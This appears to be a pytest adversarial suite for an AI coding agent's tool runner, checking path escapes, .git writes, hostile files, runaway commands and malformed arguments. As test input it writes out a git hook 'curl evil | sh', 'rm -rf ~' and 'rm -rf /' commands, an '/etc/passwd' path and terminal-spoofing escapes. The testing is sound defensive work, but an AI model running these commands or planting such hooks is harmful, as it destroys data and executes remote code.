"""Trying to break the tools (issue 7, tools part). Every attack goes through the real ToolRunner.

Paths escape by ``..``, absolute paths, symlinks and symlinked parents, or aim at
``.git/``; files are huge, binary or not UTF-8; commands print forever, ignore
SIGTERM, leave daemons, wait on stdin, get Ctrl-C; the model sends 10 MB of
arguments, unknown tools, wrong types.
"""

from __future__ import annotations

import os
import resource
import signal
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentshell.permissions.gate import ApprovalRequest, PermissionGate
from agentshell.permissions.modes import PermissionMode
from agentshell.tools import ToolContext, ToolRunner, default_tools, search
from agentshell.tools.files import MAX_READ_CHARS

GIB = 1024**3


def alive(pid: int) -> bool:
    """A zombie counts as gone: it holds no resources and runs nothing."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except (FileNotFoundError, ProcessLookupError):
        return False
    return stat.rsplit(")", 1)[1].split()[0] not in ("Z", "X")


def wait_for_file(path: Path, timeout: float = 10.0) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and path.read_text().strip():
            return path.read_text().strip()
        time.sleep(0.02)
    raise AssertionError(f"{path} never appeared")


def bytes_read() -> int:
    """What this process has read through read(2) and friends so far, page cache or not (Linux /proc)."""
    for line in Path("/proc/self/io").read_text().splitlines():
        if line.startswith("rchar:"):
            return int(line.split()[1])
    raise AssertionError("/proc/self/io has no rchar line")


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    ws = tmp_path / "ws"
    outside = tmp_path / "outside"
    (ws / ".git").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text("TOP SECRET\n")
    (ws / ".git" / "config").write_text("[core]\n")
    os.symlink(outside / "secret.txt", ws / "innocent.txt")
    os.symlink(outside, ws / "docs")
    return Path(os.path.realpath(ws)), Path(os.path.realpath(outside))


def runner_for(ws: Path, mode: PermissionMode = "ask", *, timeout: float = 2.0, **rules: list[str]) -> ToolRunner:
    gate = PermissionGate(mode, ws, allow=rules.get("allow", ()), deny=rules.get("deny", ()), ask=None)
    return ToolRunner(default_tools(), ToolContext(ws, bash_timeout=timeout, kill_grace=0.5), gate)


# --------------------------------------------------------------------------- path escapes

ESCAPES = {
    "dotdot": "../outside/secret.txt",
    "dotdot-through-subdir": ".git/../../outside/secret.txt",
    "absolute": "{outside}/secret.txt",
    "home": "~/{up}{outside}/secret.txt",  # ~ expands, then climbs to / and back down
    "symlink-file": "innocent.txt",
    "symlinked-parent": "docs/secret.txt",
}


@pytest.mark.parametrize("mode", ["ask", "accept-edits", "read-only"])
@pytest.mark.parametrize("escape", list(ESCAPES))
def test_no_path_escape_happens_non_interactively(layout: tuple[Path, Path], escape: str, mode: PermissionMode) -> None:
    ws, outside = layout
    if escape == "home":
        raw = ESCAPES[escape].format(up="../" * len(Path.home().parts), outside=str(outside).lstrip("/"))
    else:
        raw = ESCAPES[escape].format(outside=outside)
    runner = runner_for(ws, mode)
    calls = {
        "read_file": {"path": raw},
        "write_file": {"path": raw, "content": "pwned"},
        "edit_file": {"path": raw, "old_string": "TOP SECRET", "new_string": "pwned"},
        "list_dir": {"path": str(Path(raw).parent)},
        "glob": {"pattern": "*", "path": str(Path(raw).parent)},
        "grep": {"pattern": "SECRET", "path": raw},
    }
    if escape == "symlink-file":  # its parent is the workspace itself: nothing to escape through
        del calls["list_dir"], calls["glob"]
    for name, arguments in calls.items():
        result = runner.execute(name, arguments)
        assert result.is_error, f"{name} {raw}: {result.output}"
        assert "TOP SECRET" not in result.output
        assert result.output.startswith("denied")
    assert (outside / "secret.txt").read_text() == "TOP SECRET\n"


def test_an_allow_rule_opens_an_escape(layout: tuple[Path, Path]) -> None:
    ws, outside = layout
    runner = runner_for(ws, allow=[f"read({outside}/**)", f"edit({outside}/secret.txt)"])
    assert "TOP SECRET" in runner.execute("read_file", {"path": "docs/secret.txt"}).output
    assert not runner.execute("edit_file", {"path": "innocent.txt", "old_string": "TOP", "new_string": "NOT"}).is_error
    assert (outside / "secret.txt").read_text() == "NOT SECRET\n"


@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
@pytest.mark.parametrize("target", [".git/config", ".git/hooks/post-checkout", "sub/../.git/HEAD"])
def test_no_write_into_git_non_interactively(layout: tuple[Path, Path], mode: PermissionMode, target: str) -> None:
    ws, _ = layout
    runner = runner_for(ws, mode, allow=["edit(**)"])
    result = runner.execute("write_file", {"path": target, "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert result.is_error and ".git/ need approval" in result.output
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert not (ws / ".git" / "hooks").exists() and not (ws / ".git" / "HEAD").exists()


def test_a_symlink_swapped_in_after_the_check_is_not_a_way_out(layout: tuple[Path, Path]) -> None:
    """Resolution happens at run time too: a link created by an allowed write is judged by where it points."""
    ws, outside = layout
    runner = runner_for(ws, "accept-edits")
    assert not runner.execute("write_file", {"path": "out/x.txt", "content": "fine"}).is_error
    (ws / "out" / "x.txt").unlink()
    (ws / "out").rmdir()
    os.symlink(outside, ws / "out")
    assert runner.execute("write_file", {"path": "out/x.txt", "content": "pwned"}).is_error
    assert not (outside / "x.txt").exists()


# --------------------------------------------------------------------------- hostile files


def test_one_gigabyte_of_zeros_is_reported_as_binary(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    with open(ws / "huge.bin", "wb") as f:
        f.truncate(GIB)  # sparse: no disk, no time
    runner = runner_for(ws)
    before = bytes_read()
    result = runner.execute("read_file", {"path": "huge.bin"})
    assert bytes_read() - before < 16 * 1024 * 1024  # it sniffed the head, never read the gigabyte
    assert result.output == f"huge.bin is a binary file ({GIB} bytes); its content is not shown."
    assert runner.execute("grep", {"pattern": "x"}).output.startswith("No matches")


def test_one_gigabyte_text_file_reads_capped(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    with open(ws / "huge.log", "wb") as f:
        f.write(b"".join(b"log line %d\n" % i for i in range(3000)))
        f.truncate(GIB)
    runner = runner_for(ws)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    whole = runner.execute("read_file", {"path": "huge.log"})
    assert whole.output.splitlines()[-2] == "  2000\tlog line 1999"
    assert "Continue with offset=2001" in whole.output
    tail = runner.execute("read_file", {"path": "huge.log", "offset": 2990})
    lines = tail.output.splitlines()
    assert lines[10].startswith("  3000\tlog line 2999")
    assert lines[11].startswith("  3001\t\ufffd\ufffd") and lines[11].endswith("[line cut]")  # the sparse tail: NULs
    assert "past the first 256 MiB" in lines[-1]
    assert len(tail.output) < MAX_READ_CHARS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024  # KiB: well under the file's size


def test_binary_and_invalid_utf8_files(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    (ws / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    (ws / "latin1.txt").write_bytes(b"caf\xe9 cr\xe8me\n\xff\xfe\xfd\n")
    runner = runner_for(ws)
    assert "binary file" in runner.execute("read_file", {"path": "image.png"}).output
    read = runner.execute("read_file", {"path": "latin1.txt"})
    assert read.output == "     1\tcaf\ufffd cr\ufffdme\n     2\t\ufffd\ufffd\ufffd"
    assert runner.execute("grep", {"pattern": "caf"}).output == "latin1.txt:1: caf\ufffd cr\ufffdme"


def test_terminal_escapes_in_files_output_and_questions_are_defused(tmp_path: Path) -> None:
    """ESC sequences would reach the user's terminal through the UI (rich strips CR and BEL, not ESC)."""
    ws = Path(os.path.realpath(tmp_path))
    (ws / "evil.txt").write_bytes(b"ok\x1b]0;pwned\x07\x1b[2Khidden\rspoof\x9b31m\n")
    runner = runner_for(ws, "yolo")
    read = runner.execute("read_file", {"path": "evil.txt"}).output
    assert "\x1b" not in read and "\x07" not in read and "\r" not in read
    assert read == "     1\tok^[]0;pwned^G^[[2Khidden^Mspoof\ufffd31m"
    shown = runner.execute("bash", {"command": r"printf 'a\033]0;t\007b\033(Bc\r\n'"}).output
    assert shown == "ab^[(Bc\n[exit code 0]"  # OSC stripped with the colours, the rest made visible

    asked: list[ApprovalRequest] = []
    gate = PermissionGate("ask", ws, ask=lambda request: asked.append(request) or "no")
    ToolRunner(default_tools(), ToolContext(ws), gate).execute("bash", {"command": "rm -rf ~ \x1b[2K\r echo safe"})
    assert asked[0].summary == "bash: rm -rf ~ ^[[2K echo safe"  # one line: whitespace, CR included, collapsed
    assert asked[0].detail == "rm -rf ~ ^[[2K^M echo safe"


# --------------------------------------------------------------------------- hostile commands


def test_invalid_utf8_in_command_output(tmp_path: Path) -> None:
    result = runner_for(tmp_path, "yolo").execute("bash", {"command": r"printf 'ok \xff\xfe end\n'"})
    assert result.output == "ok \ufffd\ufffd end\n[exit code 0]"


def test_endless_output_is_capped_in_bounded_memory_and_stops_at_the_timeout(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    runner = runner_for(ws, "yolo", timeout=1.5)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = runner.execute("bash", {"command": "echo $$ > pid; exec yes"})
    assert result.is_error and "timed out after 1.5 s" in result.output
    assert not alive(int((ws / "pid").read_text())), "yes still runs after the timeout"
    cut = [line for line in result.output.splitlines() if line.startswith("[... ")]
    assert len(cut) == 1 and int(cut[0].split()[1]) > 10_000_000  # it really printed a lot
    assert len(result.output) < 40_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024  # KiB


def test_a_command_ignoring_sigterm_is_killed(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    result = runner_for(ws, "yolo", timeout=1.0).execute(
        "bash", {"command": "trap '' TERM; echo $$ > pid; sleep 100; echo survived"}
    )
    pid = int((ws / "pid").read_text())
    assert "timed out after 1 s" in result.output and "survived" not in result.output  # not left to finish its sleep
    assert not alive(pid)


@pytest.mark.parametrize(
    "command",
    [
        "sleep 300 & echo $! > pid",
        "nohup sleep 300 > /dev/null 2>&1 & echo $! > pid",
        "setsid bash -c 'trap \"\" TERM HUP; echo $$ > pid; exec sleep 300' > /dev/null 2>&1 &"
        " while [ ! -s pid ]; do sleep 0.01; done",
        "python3 -c 'import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
        'open("pid","w").write(str(os.getpid()))\ntime.sleep(300)\' ; while [ ! -s pid ]; do sleep 0.01; done',
    ],
    ids=["background", "nohup", "setsid-ignoring-term", "double-fork-daemon"],
)
def test_background_daemons_are_gone_when_the_call_returns(tmp_path: Path, command: str) -> None:
    ws = Path(os.path.realpath(tmp_path))
    result = runner_for(ws, "yolo", timeout=10).execute("bash", {"command": command})
    assert "timed out" not in result.output, result.output  # returned when the command did, not at the timeout
    pid = int((ws / "pid").read_text())
    assert not alive(pid), f"daemon {pid} survived"
    assert "[exit code 0]" in result.output


def test_a_daemon_holding_stdout_does_not_hold_the_call(tmp_path: Path) -> None:
    result = runner_for(tmp_path, "yolo", timeout=10).execute("bash", {"command": "sleep 300 & echo started"})
    assert result.output == "started\n[exit code 0]"  # the exit code, not "timed out": the sleep held nothing


@pytest.mark.parametrize("command", ["cat", 'read x; echo "read returned $?"', "head -c 10", "python3 -c 'input()'"])
def test_a_command_waiting_on_stdin_gets_eof_at_once(tmp_path: Path, command: str) -> None:
    result = runner_for(tmp_path, "yolo", timeout=10).execute("bash", {"command": command})
    assert "timed out" not in result.output and "[exit code" in result.output
    if command.startswith("read"):
        assert "read returned 1" in result.output


@pytest.mark.timeout(120)  # liveness guard: a Ctrl-C held until the hour-long sleep ends fails here
def test_ctrl_c_kills_the_running_command_and_propagates(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    # Under a CI shell, background jobs start with SIGINT ignored; the agent's CLI sees the default handler.
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    main = threading.main_thread().ident
    assert main is not None

    def press_ctrl_c() -> None:
        wait_for_file(ws / "pid")
        signal.pthread_kill(main, signal.SIGINT)

    presser = threading.Thread(target=press_ctrl_c)
    presser.start()
    try:
        with pytest.raises(KeyboardInterrupt):
            runner_for(ws, "yolo", timeout=3600).execute("bash", {"command": "echo $$ > pid; exec sleep 3600"})
    finally:
        signal.signal(signal.SIGINT, previous)
        presser.join()
    assert not alive(int((ws / "pid").read_text()))


SIGINT_SCRIPT = textwrap.dedent(
    """
    import signal, sys
    from pathlib import Path
    signal.signal(signal.SIGINT, signal.default_int_handler)
    from agentshell.permissions.gate import PermissionGate
    from agentshell.tools import ToolContext, ToolRunner, default_tools
    ws = Path(sys.argv[1])
    runner = ToolRunner(default_tools(), ToolContext(ws, bash_timeout=60), PermissionGate("yolo", ws))
    try:
        runner.execute("bash", {"command": "echo $$ > sleep.pid; exec sleep 60"})
    except KeyboardInterrupt:
        print("interrupted", flush=True)
        sys.exit(130)
    print("not interrupted", flush=True)
    """
)


def test_sigint_to_a_real_agent_process_kills_the_sleep(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    proc = subprocess.Popen(
        [sys.executable, "-c", SIGINT_SCRIPT, str(ws)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        pid = int(wait_for_file(ws / "sleep.pid", timeout=30))
        assert alive(pid)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=10)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 130, err
    assert out.strip() == "interrupted"
    assert not alive(pid)


@pytest.mark.timeout(120)  # liveness guard: the match alone would take days
def test_a_catastrophic_regex_cannot_hang_grep(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``(a|aa)*b`` against 60 a's backtracks for days, and ``re`` ignores Ctrl-C meanwhile: grep's child is killed."""
    monkeypatch.setattr(search, "MAX_SEARCH_SECONDS", 0.5)
    monkeypatch.setattr(search, "GREP_KILL_AFTER", 0.5)
    (tmp_path / "a.txt").write_text("a" * 60 + "\n")
    result = runner_for(tmp_path).execute("grep", {"pattern": "(a|aa)*b"})
    assert result.is_error and "grep was stopped after 1 s" in result.output


# --------------------------------------------------------------------------- hostile arguments


@pytest.mark.timeout(120)  # liveness guard: no argument is worked on in a way that grows with its square
def test_ten_megabytes_of_arguments(tmp_path: Path) -> None:
    ws = Path(os.path.realpath(tmp_path))
    (ws / "a.txt").write_text("small\n")
    big = "A" * (10 * 1024 * 1024)
    runner = runner_for(ws, "yolo")
    results = {
        "bash": runner.execute("bash", {"command": f"echo {big}"}),
        "edit_file": runner.execute("edit_file", {"path": "a.txt", "old_string": big, "new_string": "x"}),
        "read_file path": runner.execute("read_file", {"path": big}),
        "grep pattern": runner.execute("grep", {"pattern": big}),
        "unknown tool": runner.execute(big, {}),
        "extra field": runner.execute("read_file", {"path": "a.txt", "junk": big}),
        "wrong type": runner.execute("read_file", {"path": [big]}),
    }
    for what, result in results.items():
        assert result.is_error, what
        assert len(result.output) < 1000, f"{what} echoed its input back"
    assert "over the limit" in results["bash"].output
    assert "path: String should have at most 4096 characters" in results["read_file path"].output
    assert "pattern: String should have at most 1000 characters" in results["grep pattern"].output
    assert "Extra inputs are not permitted" in results["extra field"].output
    written = runner.execute("write_file", {"path": "big.txt", "content": big})  # legitimate and large: works
    assert not written.is_error and (ws / "big.txt").stat().st_size == len(big)
    assert written.diff is not None and len(written.diff) < 25_000
    assert (ws / "a.txt").read_text() == "small\n"


@pytest.mark.parametrize(
    ("name", "arguments", "expected"),
    [
        ("rm_rf", {"path": "/"}, "unknown tool 'rm_rf'"),
        ("", {}, "unknown tool ''"),
        ("bash", {"command": ["rm", "-rf", "/"]}, "command: Input should be a valid string"),
        ("read_file", {"path": {"$ref": "/etc/passwd"}}, "path: Input should be a valid string"),
        ("edit_file", {"path": "a", "old_string": 1, "new_string": None}, "old_string: Input should be a valid string"),
        ("read_file", {"path": "a", "limit": -5}, "limit: Input should be greater than or equal to 1"),
        ("write_file", {"path": "a"}, "content: Field required"),
    ],
)
def test_unknown_tools_and_wrong_types_are_answered_not_raised(
    tmp_path: Path, name: str, arguments: dict[str, object], expected: str
) -> None:
    result = runner_for(tmp_path, "yolo").execute(name, arguments)
    assert result.is_error and expected in result.output


# --------------------------------------------------------------------------- any spelling of a path

_SEGMENTS = st.sampled_from(["..", ".", "a", "b", "out", "in", ".git", "", "~"])


@settings(max_examples=150, deadline=None)
@given(segments=st.lists(_SEGMENTS, min_size=1, max_size=6), absolute=st.booleans())
def test_no_spelling_of_a_path_writes_outside_or_into_git(segments: list[str], absolute: bool) -> None:
    """Whatever mix of .., ., symlinks out and in, .git and ~: accept-edits writes exactly the paths that resolve
    inside the workspace and outside .git, and nothing ever lands outside."""
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(os.path.realpath(tmp))
        ws, outside = root / "ws", root / "outside"
        (ws / "a" / "b").mkdir(parents=True)
        outside.mkdir()
        os.symlink(outside, ws / "a" / "out")
        os.symlink(ws / "a", ws / "a" / "in")
        raw = "/".join([*segments, "file.txt"])
        if absolute:
            raw = f"{ws}/{raw}"
        runner = runner_for(ws, "accept-edits")
        result = runner.execute("write_file", {"path": raw, "content": "x"})
        spelled = Path(raw).expanduser()  # the oracle: the OS's own resolution
        target = Path(os.path.realpath(spelled if spelled.is_absolute() else ws / spelled))
        inside = target.is_relative_to(ws) and ".git" not in target.relative_to(ws).parts
        assert not list(outside.iterdir()), f"{raw} wrote outside: {result.output}"
        if inside:
            assert not result.is_error and target.read_text() == "x", f"{raw}: {result.output}"
        else:
            assert result.is_error, f"{raw} -> {target} was written: {result.output}"
